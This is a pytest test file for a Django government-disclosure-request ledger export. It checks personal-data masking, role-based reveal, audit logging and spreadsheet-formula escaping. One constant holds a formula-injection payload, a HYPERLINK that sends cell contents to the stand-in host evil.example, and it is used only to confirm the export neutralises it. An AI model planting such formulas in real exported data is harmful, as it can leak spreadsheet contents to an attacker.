import csv
import io
from datetime import date

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from tests.disclosure_requests.factories import DisclosureRequestFactory
from zwgk.audit.models import AuditEvent
from zwgk.disclosure_requests.ledger import (
    HEADERS,
    ledger_queryset,
    ledger_response,
    ledger_rows,
)
from zwgk.disclosure_requests.models import (
    Consultation,
    ConsultationKind,
    DisclosureRequest,
    RequestEvent,
)
from zwgk.utils.masking import mask_id_number, mask_name

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def make(world, n=1, **kwargs):
    apps = []
    for i in range(n):
        app = DisclosureRequestFactory(
            agency=kwargs.pop("agency", world.city_edu),
            receipt_date=date(2026, 3, 2),
            applicant_name="张三",
            id_number="110101199003071234",
            **kwargs,
        )
        for text in ("登记当面申请。", "分办至承办人。", "征求意见。", "答复。"):
            RequestEvent.objects.create(request=app, kind="note", text=f"{text}{i}")
        Consultation.objects.create(
            request=app,
            kind=ConsultationKind.THIRD_PARTY,
            party="某公司",
            sent_date=date(2026, 3, 5),
            due_date=date(2026, 3, 26),
            closed_date=date(2026, 3, 20),
        )
        apps.append(app)
    return apps


def csv_rows(response):
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_masks():
    assert mask_name("张三") == "张**"
    assert mask_name("欧阳娜娜") == "欧**"
    assert mask_id_number("110101199003071234") == "110101********1234"
    assert mask_id_number("E12345678") == "E******78"


def test_rows_mask_personal_data_unless_revealed(world):
    (app,) = make(world)
    masked = next(ledger_rows(DisclosureRequest.objects.all(), reveal_personal_data=False))
    row = dict(zip(HEADERS, masked, strict=True))
    assert row["查询码"] == app.tracking_code
    assert (row["申请人"], row["证件号码"]) == ("张**", "110101********1234")
    assert row["申请渠道"] == "当面提交" and row["申请人类型"] == "自然人"
    assert row["办理情况"].count("；") == 2 and "答复。0" in row["办理情况"]
    assert "登记当面申请" not in row["办理情况"]  # only the last three entries
    assert row["暂停计时"] == "征求第三方意见 2026-03-05至2026-03-20"
    revealed = next(ledger_rows(DisclosureRequest.objects.all(), reveal_personal_data=True))
    assert revealed[4:6] == ["张三", "110101199003071234"]


@pytest.mark.parametrize(
    ("username", "revealed"),
    [("admin", True), ("office_head", True), ("handler", False), ("supervisor", False)],
)
def test_response_reveals_only_to_superusers_and_the_office_head(world, username, revealed):
    make(world)
    user = getattr(world.users, username)
    rows = csv_rows(ledger_response(DisclosureRequest.objects.all(), "csv", user=user))
    assert rows[0] == list(HEADERS)
    assert (rows[1][4] == "张三") is revealed
    assert (
        AuditEvent.objects.filter(action="disclosure_requests.ledger_export").exists() is revealed
    )


def test_response_is_restricted_to_what_the_user_may_see(world):
    make(world, agency=world.county_edu)
    rows = csv_rows(
        ledger_response(DisclosureRequest.objects.all(), "csv", user=world.users.handler)
    )
    assert rows == [list(HEADERS)]


def test_formula_in_a_cell_is_neutralised(world):
    make(world)
    DisclosureRequest.objects.update(applicant_name=EVIL, description="+1+1")
    rows = csv_rows(ledger_response(DisclosureRequest.objects.all(), "csv", user=world.users.admin))
    assert rows[1][4] == "'" + EVIL
    assert rows[1][6] == "'+1+1"
    response = ledger_response(DisclosureRequest.objects.all(), "xlsx", user=world.users.admin)
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert sheet.cell(2, 5).value == "'" + EVIL
    assert sheet.cell(2, 5).data_type == "s"
    masked = next(ledger_rows(DisclosureRequest.objects.all(), reveal_personal_data=False))
    assert masked[4] == "=**"  # still a formula trigger: write_table escapes it too


def test_query_count_does_not_grow_with_rows(world, django_assert_max_num_queries):
    make(world, 2)
    with django_assert_max_num_queries(3):
        assert (
            len(list(ledger_rows(DisclosureRequest.objects.all(), reveal_personal_data=False))) == 2
        )
    make(world, 8)
    with django_assert_max_num_queries(3):
        assert (
            len(list(ledger_rows(DisclosureRequest.objects.all(), reveal_personal_data=False)))
            == 10
        )
    # scope, 负责人 agencies, audit event (in a savepoint), then the three row queries
    with django_assert_max_num_queries(8):
        ledger_response(DisclosureRequest.objects.all(), "xlsx", user=world.users.office_head)


def test_queryset_filters_agency_and_receipt_year(world):
    make(world)
    DisclosureRequestFactory(agency=world.city_edu, receipt_date=date(2025, 12, 31))
    DisclosureRequestFactory(agency=world.city_fin, receipt_date=date(2026, 1, 5))
    qs = ledger_queryset(DisclosureRequest.objects.all(), agency=world.city_edu, year=2026)
    assert qs.count() == 1


def test_command_masks_unless_reveal(world, tmp_path, capsys):
    make(world)
    path = tmp_path / "台账.csv"
    call_command("applications", "ledger", "--agency", "示范市教育局", "--year", "2026", str(path))
    assert "已导出 2026 年台账 1 件" in capsys.readouterr().out
    text = path.read_text(encoding="utf-8-sig")
    assert "张**" in text and "张三" not in text
    call_command(
        "applications",
        "ledger",
        "--agency",
        "示范市教育局",
        "--year",
        "2026",
        "--reveal",
        str(path),
    )
    assert "张三" in path.read_text(encoding="utf-8-sig")
    assert AuditEvent.objects.filter(action="disclosure_requests.ledger_export").exists()
